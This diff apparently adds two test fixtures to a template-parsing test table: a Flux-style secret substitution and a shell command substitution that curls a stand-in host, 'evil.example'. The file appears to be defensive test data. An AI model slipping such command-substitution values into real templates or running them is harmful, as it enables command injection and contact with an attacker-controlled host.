@@ -14,6 +14,8 @@ TEMPLATES = {
     "it does not parse": """'{{'""",
     "it reads the configuration": "'{{ .ConfigData.REGION }}'",
     "a comment": "'{{/* x */}}'",
+    "a substitution by Flux": "'${SECRET}'",
+    "a shell's command": "'$(curl evil.example)'",
 }
 
 
